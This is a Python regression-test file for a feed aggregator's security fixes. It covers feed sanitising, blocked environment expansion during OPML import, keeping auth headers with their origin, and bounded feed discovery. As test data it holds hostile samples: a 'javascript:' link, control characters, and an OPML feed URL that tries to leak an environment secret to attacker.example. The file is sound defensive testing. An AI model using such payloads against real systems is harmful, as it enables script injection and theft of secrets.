"""Regression tests for the security review (issue 11), one section per finding.

Each test reproduces what a hostile source, seed file, reader client, OPML
file or an operator mistake did on the code before the fix, against the real
parts (a real HTTP server on 127.0.0.1, the real CLI, real files). The map
from threat to defence to test is ``docs/security.md``.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree
from pytest_httpserver import HTTPServer

from aggregator.config import load_config
from aggregator.errors import PublishError
from aggregator.model import Outcome, SourceResult
from aggregator.pipeline import open_context, update_all
from aggregator.publish import Site, TopicFeed, render_site

from .conftest import REPO
from .publish_helpers import make_story, make_topic


@pytest.fixture(scope="session")
def httpserver_listen_address() -> tuple[str, int]:
    # "localhost" may resolve to ::1; the shared server stays on 127.0.0.1.
    return ("127.0.0.1", 0)


def run_cli(
    config: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    full_env = {**os.environ, "PYTHONPATH": str(REPO), "COLUMNS": "200", **(env or {})}
    full_env.pop("AGGREGATOR_CONFIG", None)
    return subprocess.run(
        [sys.executable, "-m", "aggregator", "--config", str(config), *args],
        capture_output=True,
        text=True,
        env=full_env,
        timeout=120,
    )


def write_config(tmp_path: Path, sources: list[str], *, extra: str = "", topics: str = "") -> Path:
    lines = [
        f"data_dir: {tmp_path / 'var'}",
        "server: {base_url: 'http://127.0.0.1:8080/'}",
        "allow_networks: ['127.0.0.0/8']",
        extra,
        "sources:",
        *(f"  - {s}" for s in sources),
        "topics:",
        "  - {name: zebra, query: zebra}",
        topics,
    ]
    path = tmp_path / "aggregator.yaml"
    path.write_text("\n".join(lines) + "\n")
    return path


# -- 1 and 8: hostile fields in a source's own metadata ---------------------------

HOSTILE_JSON_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Zebra JSON",
    "home_page_url": "http://e.com/\u0001",
    "items": [
        {
            "id": "j1",
            "url": "http://example.org/j1",
            "title": "Zebra with a control character in its language",
            "content_html": "<p>Zebra content.</p>",
            "language": "en\u0001",
            "date_published": "2026-03-05T08:00:00Z",
        }
    ],
}

HOSTILE_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
<title>Script Times</title><link>javascript:alert(1)</link><description>d</description>
<item><title>Zebra via a script link</title><link>http://example.org/s1</link><guid>s1</guid>
<pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate><description>A zebra.</description></item>
</channel></rss>
"""


def test_hostile_feed_fields_neither_stop_publishing_nor_leave_as_links(
    httpserver: HTTPServer, tmp_path: Path
) -> None:
    httpserver.expect_request("/hostile.json").respond_with_data(
        json.dumps(HOSTILE_JSON_FEED), content_type="application/feed+json"
    )
    httpserver.expect_request("/script.rss").respond_with_data(
        HOSTILE_RSS, content_type="application/rss+xml"
    )
    config = write_config(
        tmp_path,
        [
            f"{{name: hostile, url: '{httpserver.url_for('/hostile.json')}'}}",
            f"{{name: script, url: '{httpserver.url_for('/script.rss')}'}}",
        ],
    )
    updated = run_cli(config, "update")
    assert updated.returncode == 0, updated.stderr
    out = tmp_path / "out"
    published = run_cli(config, "publish", "--out", str(out))
    assert published.returncode == 0, published.stderr

    atom = (out / "topics" / "zebra.atom").read_bytes()
    root = etree.fromstring(atom)  # well-formed, so every reader can read it
    titles = sorted(t.text for t in root.iter("{http://www.w3.org/2005/Atom}title"))
    assert "Zebra via a script link" in titles
    assert "Zebra with a control character in its language" in titles
    for name in (
        "topics/zebra.atom",
        "topics/zebra.rss",
        "topics/zebra.json",
        "topics/zebra/index.html",
    ):
        body = (out / name).read_text(encoding="utf-8")
        assert "javascript:" not in body, name
        assert "\u0001" not in body and "\\u0001" not in body, name
    feed = json.loads((out / "topics" / "zebra.json").read_text(encoding="utf-8"))
    assert all("language" not in item for item in feed["items"])


def test_one_unrenderable_topic_does_not_stop_the_others() -> None:
    site = Site(base_url="https://news.example.org/", title="t")
    good = TopicFeed(make_topic("good"), (make_story(1),))
    # A private topic whose token no URL can carry fails to render on its own.
    bad = TopicFeed(make_topic("bad", private=True, tokens=("no/slash",)), ())
    errors: list[PublishError] = []
    docs = render_site(site, [bad, good], on_error=errors.append)
    assert "topics/good.atom" in docs
    assert not any("bad" in path for path in docs if path.startswith(("topics/", "private/")))
    assert len(errors) == 1 and "'bad'" in str(errors[0])


# -- 2: OPML import never expands the environment ---------------------------------


def test_imported_opml_values_never_expand_environment(tmp_path: Path) -> None:
    opml = tmp_path / "feeds.opml"
    opml.write_text(
        '<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
        '<outline type="rss" text="Leak ${SECRET_FOR_TEST}" '
        'xmlUrl="https://attacker.example/feed?k=${SECRET_FOR_TEST}&amp;d=$${X}"/>'
        "</body></opml>"
    )
    config = write_config(tmp_path, ["{name: local, url: 'https://example.org/feed'}"])
    env = {"SECRET_FOR_TEST": "hunter2"}
    proc = run_cli(config, "import-opml", str(opml), env=env)
    assert proc.returncode == 0, proc.stderr
    os.environ["SECRET_FOR_TEST"] = "hunter2"
    try:
        loaded = load_config(config)
    finally:
        del os.environ["SECRET_FOR_TEST"]
    (imported,) = [s for s in loaded.sources if s.name != "local"]
    assert imported.location == "https://attacker.example/feed?k=${SECRET_FOR_TEST}&d=$${X}"
    assert imported.title == "Leak ${SECRET_FOR_TEST}"


def test_config_dollar_escape_keeps_benign_values(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FEED_TOKEN", "t0k")
    config = write_config(
        tmp_path,
        [
            "{name: a, url: 'https://example.org/feed?k=${FEED_TOKEN}'}",
            "{name: b, url: 'https://example.org/p$$q?x=$${FEED_TOKEN}'}",
        ],
    )
    sources = {s.name: s.location for s in load_config(config).sources}
    assert sources["a"] == "https://example.org/feed?k=t0k"
    assert sources["b"] == "https://example.org/p$$q?x=${FEED_TOKEN}"


# -- 3: configured headers stay with their origin; discovery is bounded ------------


@pytest.fixture
def other_origin() -> Iterator[HTTPServer]:
    """A second real server: another port on 127.0.0.1 is another origin."""
    server = HTTPServer(host="127.0.0.1", port=0)
    server.start()
    try:
        yield server
    finally:
        server.clear()
        server.stop()


def update_source(config_path: Path, name: str) -> SourceResult:
    config = load_config(config_path)
    ctx = open_context(config)
    try:
        spec = next(s for s in config.sources if s.name == name)
        return asyncio.run(update_all(ctx, [spec]))[0]
    finally:
        ctx.close()


def page_linking(server: HTTPServer, n: int) -> str:
    """An HTML page whose head links ``n`` RSS feeds on ``server``."""
    links = "".join(
        f'<link rel="alternate" type="application/rss+xml" href="{server.url_for(f"/f{i}.rss")}">'
        for i in range(n)
    )
    return f"<!doctype html><html><head>{links}</head><body>zebra</body></html>"


def test_discovery_keeps_headers_home_and_tries_a_handful(
    httpserver: HTTPServer, other_origin: HTTPServer, tmp_path: Path
) -> None:
    page = page_linking(other_origin, 2000)
    httpserver.expect_request("/page").respond_with_data(page, content_type="text/html")
    other_origin.expect_request("/f1.rss").respond_with_data(
        HOSTILE_RSS, content_type="application/rss+xml"
    )
    other_origin.no_handler_status_code = 404
    config = write_config(
        tmp_path,
        [
            f"{{name: site, url: '{httpserver.url_for('/page')}', "
            "headers: {X-Api-Key: s3cret, Authorization: 'Bearer s3cret'}}"
        ],
    )
    result = update_source(config, "site")
    assert result.outcome is Outcome.OK, result.error
    assert httpserver.log[0][0].headers["X-Api-Key"] == "s3cret"  # the configured origin
    requests = [r for r, _ in other_origin.log]
    assert [r.path for r in requests] == ["/f0.rss", "/f1.rss"]
    assert all("X-Api-Key" not in r.headers and "Authorization" not in r.headers for r in requests)


def test_discovery_stops_after_a_handful_of_candidates(
    httpserver: HTTPServer, other_origin: HTTPServer, tmp_path: Path
) -> None:
    page = page_linking(other_origin, 2000)
    httpserver.expect_request("/page").respond_with_data(page, content_type="text/html")
    other_origin.no_handler_status_code = 404
    config = write_config(tmp_path, [f"{{name: site, url: '{httpserver.url_for('/page')}'}}"])
    result = update_source(config, "site")
    assert result.outcome is not Outcome.OK
    assert "no usable feed" in (result.error or "")
    assert len(other_origin.log) == 5  # discover.MAX_CANDIDATES: a handful, not 2,000
